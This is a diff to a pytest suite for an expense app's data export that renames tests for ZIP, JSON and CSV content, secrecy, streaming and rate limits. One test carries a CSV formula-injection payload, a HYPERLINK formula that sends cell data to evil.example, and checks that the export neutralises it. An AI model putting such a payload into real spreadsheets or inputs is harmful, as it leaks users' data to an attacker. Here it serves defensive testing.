@@ -82,7 +82,7 @@ def attach(client, expense):
     return answer.json()["receipt_url"]
 
 
-def test_it_holds_what_the_api_lists(alice):
+def test_the_zip_contains_what_the_api_lists(alice):
     client = client_for(alice)
     make_budget(alice, amount="5.00")
     attach(client, make_expense(alice, amount="1234567.80", description="Zoë 🎈\nx"))
@@ -107,7 +107,7 @@ def test_it_holds_what_the_api_lists(alice):
     assert profile == client.get("/api/profile").json()
 
 
-def test_it_tells_of_api_tokens_without_what_opens_or_names_them(alice):
+def test_api_tokens_are_exported_without_secrets_and_ids(alice):
     secret = make_token(alice, "read", name="Backup")
     (listed,) = client_for(alice).get("/api/tokens").json()
 
@@ -119,7 +119,7 @@ def test_it_tells_of_api_tokens_without_what_opens_or_names_them(alice):
         assert hidden not in archive.read("tokens.json").decode()
 
 
-def test_nothing_secret_is_in_it(alice):
+def test_the_export_contains_no_secrets(alice):
     session = client_for(alice).cookies["session"].value
 
     text = exported(alice).read("profile.json").decode()
@@ -129,7 +129,7 @@ def test_nothing_secret_is_in_it(alice):
     assert "session" not in text
 
 
-def test_the_table_is_exact_and_names_the_receipts(alice):
+def test_the_csv_is_exact_and_names_the_receipts(alice):
     key = attach(client_for(alice), make_expense(alice, amount="999999999999.99"))
 
     archive = exported(alice)
@@ -142,7 +142,7 @@ def test_the_table_is_exact_and_names_the_receipts(alice):
 
 
 @pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\uff1d"])
-def test_no_text_becomes_a_formula(alice, sign):
+def test_no_text_is_a_formula_in_the_csv(alice, sign):
     attack = f'{sign}HYPERLINK("http://evil.example/?"&A1,"x")'
     make_expense(alice, category=attack[:50], description=attack)
 
@@ -154,7 +154,7 @@ def test_no_text_becomes_a_formula(alice, sign):
     assert read(archive, "expenses.json")[0]["description"] == attack
 
 
-def test_reports_come_too_and_what_is_missing_is_named(alice):
+def test_reports_are_included_and_missing_files_are_named(alice):
     client = client_for(alice)
     receipt = attach(client, make_expense(alice))
     lost = attach(client, make_expense(alice))
@@ -173,7 +173,7 @@ def test_reports_come_too_and_what_is_missing_is_named(alice):
     assert missing == [f"receipts/{lost.rpartition('/')[2]}"]
 
 
-def test_histories_are_in_it_as_the_api_tells_them(alice):
+def test_histories_are_exported_as_in_the_api(alice):
     client = client_for(alice)
     expense = make_expense(alice, amount="5")
     make_expense(alice)
@@ -192,7 +192,7 @@ def test_histories_are_in_it_as_the_api_tells_them(alice):
 
 
 @pytest.mark.parametrize(("count", "calls"), [(0, 0), (1, 1), (100, 1), (101, 2)])
-def test_a_call_reads_a_hundred_histories(alice, count, calls):
+def test_histories_are_read_a_hundred_per_call(alice, count, calls):
     with Expense.batch_write() as batch:
         for number in range(120):
             day = TODAY - datetime.timedelta(days=number)
@@ -210,7 +210,7 @@ def test_a_call_reads_a_hundred_histories(alice, count, calls):
     assert len(read(archive, "history.json")) == count
 
 
-def test_histories_that_one_answer_cannot_hold_are_asked_for_again(alice):
+def test_unprocessed_histories_are_requested_again(alice):
     ids = [make_expense(alice, amount="5").expense_id for _ in range(3)]
     for expense_id in ids:
         expenses.edit_expense(alice, expense_id, amount="6")
@@ -237,7 +237,7 @@ def read_json(user):
     return json.loads(b"".join(export.begin_json(user)))
 
 
-def test_the_json_has_what_the_zip_has(alice):
+def test_the_json_has_the_content_of_the_zip(alice):
     make_token(alice)
     make_budget(alice, amount="5.00")
     attach(client_for(alice), make_expense(alice, amount="600"))
@@ -270,7 +270,7 @@ def test_the_json_has_what_the_zip_has(alice):
     ]
 
 
-def test_the_schema_of_the_json_is_true(alice):
+def test_the_json_matches_its_schema(alice):
     """Every field that is sent is described, and none is described that is not."""
     make_token(alice)
     make_budget(alice, amount="5.00")
@@ -292,7 +292,7 @@ def assert_described(value, serializer):
             assert_described(value[name], field)
 
 
-def test_an_empty_account_is_whole_as_json_too(alice):
+def test_an_empty_account_exports_complete_json(alice):
     document = read_json(alice)
 
     assert document["profile"]["username"] == "alice"
@@ -304,7 +304,7 @@ def rows_of(answer):
     return list(csv.DictReader(io.StringIO(text, newline="")))
 
 
-def test_the_table_alone_can_be_had_of_some_days(alice):
+def test_the_csv_can_be_limited_to_a_date_range(alice):
     for day in ("2026-01-31", "2026-02-01", "2026-02-28", "2026-03-01"):
         make_expense(alice, date=day, description="=1+1")
 
@@ -319,7 +319,7 @@ def test_the_table_alone_can_be_had_of_some_days(alice):
 
 
 @pytest.mark.parametrize("begin", [export.begin_json, export.begin_csv])
-def test_many_are_sent_in_chunks_as_they_are_read(alice, begin):
+def test_many_expenses_are_streamed_as_they_are_read(alice, begin):
     with Expense.batch_write() as batch:
         for number in range(1001):
             batch.save(stored_expense(alice, f"{number:032x}", TODAY))
@@ -337,7 +337,7 @@ def test_many_are_sent_in_chunks_as_they_are_read(alice, begin):
 
 
 @pytest.mark.parametrize("begin", [export.begin_json, export.begin_csv])
-def test_one_of_the_others_broken_off_leaves_nothing_open(alice, begin):
+def test_an_aborted_json_or_csv_export_leaves_nothing_open(alice, begin):
     with Expense.batch_write() as batch:
         for number in range(601):
             batch.save(stored_expense(alice, f"{number:032x}", TODAY))
@@ -356,7 +356,7 @@ def test_one_of_the_others_broken_off_leaves_nothing_open(alice, begin):
     ],
 )
 @pytest.mark.parametrize("accept", ["*/*", "text/csv", "application/json", "image/png"])
-def test_an_address_has_one_form_whatever_is_accepted(alice, path, kind, name, accept):
+def test_each_url_has_one_format_whatever_is_accepted(alice, path, kind, name, accept):
     make_expense(alice)
 
     answer = client_for(alice).get(path, headers={"Accept": accept})
@@ -370,7 +370,7 @@ def test_an_address_has_one_form_whatever_is_accepted(alice, path, kind, name, a
     assert b"Groceries" in b"".join(answer.streaming_content)
 
 
-def test_the_other_doors_are_for_their_owner_and_as_often(alice):
+def test_json_and_csv_are_private_and_share_the_limit(alice):
     bob = make_user("bob")
     make_expense(bob, description="Bob's")
     client = client_for(alice)
@@ -393,7 +393,7 @@ def test_the_other_doors_are_for_their_owner_and_as_often(alice):
         assert '"export";q=5;w=3600' in refused.headers["RateLimit-Policy"]
 
 
-def test_the_page_says_when_the_next_download_may_begin(alice):
+def test_the_page_says_when_the_next_download_is_possible(alice):
     for _ in range(5):
         export.begin_csv(alice)
 
@@ -407,7 +407,7 @@ def test_the_page_says_when_the_next_download_may_begin(alice):
     assert "Try again in 60 minutes." in refused.content.decode()
 
 
-def test_the_limit_of_downloads_is_told_with_each(alice):
+def test_each_download_reports_the_limit(alice):
     answer = client_for(alice).get("/api/export/expenses.csv")
 
     policies = answer.headers["RateLimit-Policy"].split(", ")
@@ -418,7 +418,7 @@ def test_the_limit_of_downloads_is_told_with_each(alice):
 @pytest.mark.parametrize(
     "query", ["start=tomorrow", "start=2026-02-02&end=2026-02-01", "category=Fun"]
 )
-def test_what_the_table_cannot_be_narrowed_by_is_refused_and_not_counted(alice, query):
+def test_invalid_csv_filters_are_rejected_and_not_counted(alice, query):
     client = client_for(alice)
 
     for _ in range(6):
@@ -428,7 +428,7 @@ def test_what_the_table_cannot_be_narrowed_by_is_refused_and_not_counted(alice, 
     assert client.get("/api/export").status_code == 200
 
 
-def test_an_empty_account_makes_a_whole_zip(alice):
+def test_an_empty_account_exports_a_complete_zip(alice):
     archive = exported(alice)
 
     assert sorted(archive.namelist()) == [
@@ -445,7 +445,7 @@ def test_an_empty_account_makes_a_whole_zip(alice):
     assert table(archive) == []
 
 
-def test_others_things_are_not_in_it(alice):
+def test_other_users_data_is_not_exported(alice):
     bob = make_user("bob")
     attach(client_for(bob), make_expense(bob, description="Bob's"))
     report = report_key(bob.user_id, "monthly", NOON)
@@ -475,7 +475,7 @@ def expenses_alive() -> int:
     return sum(type(obj).__name__ == "Expense" for obj in gc.get_objects())
 
 
-def test_two_thousand_are_read_once_by_the_page_and_sent_as_they_come(alice):
+def test_two_thousand_expenses_are_read_page_by_page_and_streamed(alice):
     with Expense.batch_write() as batch:
         for number in range(2001):
             day = TODAY - datetime.timedelta(days=number % 999)
@@ -510,7 +510,7 @@ def test_two_thousand_are_read_once_by_the_page_and_sent_as_they_come(alice):
     )
 
 
-def test_one_that_is_broken_off_leaves_nothing_open(alice):
+def test_an_aborted_zip_leaves_nothing_open(alice):
     make_expense(alice)
     chunks = export.begin(alice)
     next(chunks)
@@ -519,7 +519,7 @@ def test_one_that_is_broken_off_leaves_nothing_open(alice):
     gc.collect()  # an open file would warn, and warnings are errors
 
 
-def test_an_outage_in_the_middle_breaks_it_off(alice):
+def test_an_outage_in_the_middle_aborts_the_download(alice):
     make_expense(alice)
     chunks = export.begin(alice)
     sent_chunks = [next(chunks)]
@@ -531,7 +531,7 @@ def test_an_outage_in_the_middle_breaks_it_off(alice):
         opened(sent_chunks)
 
 
-def test_five_an_hour_are_enough(alice):
+def test_at_most_five_exports_an_hour_are_allowed(alice):
     for _ in range(5):
         export.begin(alice)
 
@@ -542,7 +542,7 @@ def test_five_an_hour_are_enough(alice):
 @pytest.mark.parametrize(
     ("method", "path"), [("get", "/api/export"), ("post", "/accounts/export")]
 )
-def test_both_doors_send_a_dated_zip_as_it_is(alice, method, path):
+def test_page_and_api_send_a_dated_zip(alice, method, path):
     make_expense(alice)
     client = client_for(alice, csrf=True)
     headers = {**token_of(client), "Accept-Encoding": "gzip"}
@@ -558,7 +558,7 @@ def test_both_doors_send_a_dated_zip_as_it_is(alice, method, path):
     assert len(table(opened(answer.streaming_content))) == 1
 
 
-def test_too_many_are_refused_on_both_doors(alice):
+def test_too_many_exports_are_rejected_by_page_and_api(alice):
     for _ in range(5):
         export.begin(alice)
     client = client_for(alice)
